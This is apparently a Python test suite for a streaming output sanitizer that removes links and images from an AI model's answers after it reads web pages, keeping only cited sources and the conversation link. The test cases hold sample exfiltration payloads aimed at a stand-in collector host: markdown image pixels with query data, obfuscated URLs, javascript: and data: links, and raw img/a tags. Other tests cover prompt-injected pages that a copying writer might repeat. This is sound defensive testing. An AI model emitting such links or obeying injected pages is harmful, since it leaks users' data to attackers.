"""What leaves after a run that read the web: links to sources and to the conversation, and to nothing else."""

from __future__ import annotations

import re
import time
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from injections import EVIL, PAGES

from litellm_fusion.markup import HOLD_CHARS
from litellm_fusion.outflow import REMOVED, Outflow
from litellm_fusion.types import Source

A, B = "https://a.test/x", "https://b.test/y_(z)"
SOURCES = (Source(A, "A page", 1, True, n=1), Source(B, "B page", 2, False, n=2))
CONVERSATION = ("https://conv.test/z",)


def flow(text: str, size: int = 10**6, **more: Any) -> tuple[str, Outflow]:
    out = Outflow(SOURCES, CONVERSATION, **more)
    return "".join(out.feed(text[place : place + size]) for place in range(0, len(text), size)) + out.end(), out


@pytest.mark.parametrize(
    ("text", "leaves"),
    [
        # Citations
        ("So it is [1].", f"So it is [[1]]({A})."),
        ("Both [1, 2] say so.", f"Both [[1]]({A})[[2]](https://b.test/y_%28z%29) say so."),
        ("Twice [1][2]", f"Twice [[1]]({A})[[2]](https://b.test/y_%28z%29)"),
        ("Odd \u30101\u2020L3-L9\u3011 and [^1]", f"Odd [[1]]({A}) and [[1]]({A})"),
        ("Nothing [7] there [0].", "Nothing  there ."),
        ("A year [2024] stays.", "A year [2024] stays."),
        ("`a[1]` and\n```\nb[1]\n```\n", "`a[1]` and\n```\nb[1]\n```\n"),
        (f"[[1]]({A}) stays", f"[[1]]({A}) stays"),
        ("[ ] to do, [x] done, [note]", "[ ] to do, [x] done, [note]"),
        ("[1] (see below)", f"[[1]]({A}) (see below)"),
        # Links that may stay
        (f"[the page]({A})", f"[the page]({A})"),
        (f"[the page]({A}#part)", f"[the page]({A})"),
        ("[yours](https://conv.test/z)", "[yours](https://conv.test/z)"),
        (f"{A}, {B}.", f"{A}, {B}."),
        (f"<{A}>", f"<{A}>"),
        (f'[t]({A} "a title")', f"[t]({A})"),
        ("[up](#heading)", "[up](#heading)"),
        (f"**{A}**", f"**{A}**"),
        # Links that may not
        (f"[log in]({EVIL}/?d=1)", "log in"),
        (f"![pixel]({EVIL}/?d=1)!", "!"),
        (f"![pixel]( <{EVIL}/?d=1> 'title' )", ""),
        (f"[![pixel]({EVIL}/p)]({EVIL}/l)", ""),
        (f"[![pixel]({EVIL}/p)]({A})", f"[]({A})"),
        (f"see {EVIL}/?d=1.", "see (link removed)."),
        (f"<{EVIL}/?d=1>", "(link removed)"),
        ("www.collector.test/?d=1 x", "(link removed) x"),
        ("[x](//collector.test/?d=1)", "x"),
        ("[x](\\/\\/collector.test)", "x"),
        ("![x](&#104;ttps://collector.test)", ""),
        ("[x](javascript:alert(1))", "x"),
        ("[x](data:text/html;base64,PHg+)", "x"),
        ("[x](/logout)", "x"),
        ("[x](mailto:a@collector.test?body=d)", "x"),
        (f"[x]({A}?d=1)", "x"),
        (f"[x]({A}@collector.test)", "x"),
        ("[x](https://a.test@collector.test/x)", "x"),
        (f"{A}?d=1 z", "(link removed) z"),
        (f'{A}"secret', "(link removed)"),
        (f"[1]: {EVIL}/r?d=1\nx", "\nx"),
        (f"> [a b]: {EVIL}/r?d=1\nx", "> \nx"),
        ("[a]: //collector.test/r\nx", "\nx"),
        ("[a]:\n<//collector.test/r>\nx", "\nx"),
        (f"[a]: {A}\nx", f"[a]: {A}\nx"),
        ("[Note]: and so on", "[Note]: and so on"),
        (f"<img src='{EVIL}/p'>x", "x"),
        ("<img alt='>' src=//collector.test/p>x", "x"),
        (f"<a href={EVIL}>text</a>", "text"),
        ("<IMG\nSRC=//collector.test>", ""),
        ("<!-- x -->y", "y"),
        ("<b>bold</b> 1 < 2 <br/>", "<b>bold</b> 1 < 2 <br/>"),
        ("<img src=//collector.test/p", "&lt;img src=//collector.test/p"),
        (f"[{'x' * (HOLD_CHARS + 5)}](//collector.test)", f"[{'x' * (HOLD_CHARS + 5)}] (//collector.test)"),
        ("[a [b [c [d]]]](//collector.test)", "[a [b [c [d]]]] (//collector.test)"),
        # Code
        ("```sh\ncurl https://api.test/v1\n```\nx", "```sh\ncurl https://api.test/v1\n```\nx"),
        ("~~~\n```\n![x](//c.test)\n~~~\n![x](//c.test)", "~~~\n```\n![x](//c.test)\n~~~\n"),
        ("````\n```\n![x](//c.test)\n````\n![x](//c.test)", "````\n```\n![x](//c.test)\n````\n"),
        ("use `curl https://api.test/v1` now", "use `curl https://api.test/v1` now"),
        (f"a ` {EVIL}/?d=1 b", "a ` (link removed) b"),
        (f"a ` {EVIL}/?d=1", "a ` (link removed)"),
        (f"a ` {EVIL}/?d=1 `` b", "a ` (link removed) `` b"),
        (f"a \\` {EVIL}/?d=1 ` b", "a \\` (link removed) ` b"),
        ("``` `x\n![x](//c.test)\n", "``` `x\n\n"),
        ("a < b\n```\n![x](//c.test)\n```\n", "a < b\n```\n\n```\n"),
        ("text\n    ```\n![x](//c.test)", "text\n    ```\n"),
    ],
)
@pytest.mark.parametrize("size", [1, 3, 10**6])
def test_what_leaves(text: str, leaves: str, size: int) -> None:
    assert flow(text, size)[0] == leaves


def test_annotations_point_at_the_links() -> None:
    text, out = flow(f"First [1]. Then [2] and [the page]({A}); [9] not, ![x]({EVIL}).", 4)
    assert [text[cited["start_index"] : cited["end_index"]] for cited in _cited(out)] == [
        f"[[1]]({A})", "[[2]](https://b.test/y_%28z%29)", f"[the page]({A})",
    ]  # fmt: skip
    assert [(cited["url"], cited["title"]) for cited in _cited(out)] == [(A, "A page"), (B, "B page"), (A, "A page")]
    assert (out.dropped_citations, out.dropped_links) == (1, 1)


def _cited(out: Outflow) -> list[dict[str, Any]]:
    assert all(annotation["type"] == "url_citation" for annotation in out.annotations)
    return [annotation["url_citation"] for annotation in out.annotations]


def test_at_most_one_unclosed_piece_is_held_back() -> None:
    out = Outflow(SOURCES, CONVERSATION)
    assert out.feed("Plain words leave at once, ") == "Plain words leave at once, "
    assert out.feed("[and a bracket") == ""
    assert out.feed(" that closes]") == ""
    assert out.feed(" leaves") == "[and a bracket that closes] leaves"
    assert out.feed("[" + "x" * (HOLD_CHARS - 1)) == ""
    assert out.feed("yy")[:2] == "[x"
    assert out.feed("[0, 1) is an interval") == ""
    assert out.feed("\n\nnext") == "[0, 1) is an interval\n\nnext"


def test_json_stays_json() -> None:
    text = f'{{"a": [1, 2], "u": "{A}", "e": "{EVIL}/x", "m": "![i]({EVIL}/p) ok", "n":"{A}","z":[9]}}'
    assert flow(text, 2, linked=False)[0] == (
        f'{{"a": [1, 2], "u": "{A}", "e": "(link removed)", "m": " ok", "n":"{A}","z":[9]}}'
    )


def test_without_sources_numbers_are_numbers() -> None:
    out = Outflow((), ())
    assert out.whole("a list [1] of [2] things") == "a list [1] of [2] things"
    assert out.dropped_citations == 0


PIECES = st.sampled_from([
    "[", "]", "(", ")", "!", "<", ">", "`", "```", "~~~", "\n", "\n\n", " ", "\\", '"', "'", "1", "[1]", "[9]", ":", "x", "//",
    "www.", "http", "https://", "collector.test/?d=1", EVIL, A, B, CONVERSATION[0], "<img src=", "<a href=", "&#104;ttps:",
    "<!--", "-->", "#",
])  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(PIECES | st.text(max_size=4), max_size=25).map("".join), st.integers(1, 9))
def test_what_leaves_does_not_depend_on_how_it_came(text: str, size: int) -> None:
    assert flow(text, size)[0] == flow(text)[0]


@settings(max_examples=400, deadline=None)
@given(st.lists(PIECES | st.text(max_size=4), max_size=25).map("".join))
def test_no_image_and_no_link_leaves_for_elsewhere(text: str) -> None:
    """By the forms that Markdown readers load or link, outside of code."""
    left = flow(text)[0].replace(REMOVED, "")  # which is no target, having a space
    if "```" in left or "~~~" in left or "`" in left:
        return
    for target in re.findall(r"\]\(\s*<?([^\s<>()]+)", left):
        assert target.startswith((A, "https://b.test/y_", CONVERSATION[0], "#"))
    assert not re.search(r"(?i)<[a-z][^>]*\s(?:src|href)\s*=[^>]*>", left)
    assert "https://collector.test" not in left


def test_hostile_text_takes_no_time() -> None:
    started = time.monotonic()
    for piece in ("[", "![", "](", "<", "<a ", "<!--", "[[[", "[x](", "https://", "```", "`", "[1", "(" * 5, "【1", "[a]:"):
        flow(piece * (60_000 // len(piece)), 50)
        flow(piece * (60_000 // len(piece)))
    assert time.monotonic() - started < 60


@pytest.mark.parametrize("name", PAGES)
def test_a_writer_that_copies_a_hostile_page_links_nothing(name: str) -> None:
    """The worst writer: it puts the page into its answer as it stands."""
    left, _ = flow(PAGES[name][:20_000], 7)
    assert EVIL not in left
    assert "](//" not in left
    assert not re.search(r"(?i)<[a-z][^>]*\s(?:src|href)\s*=", left)
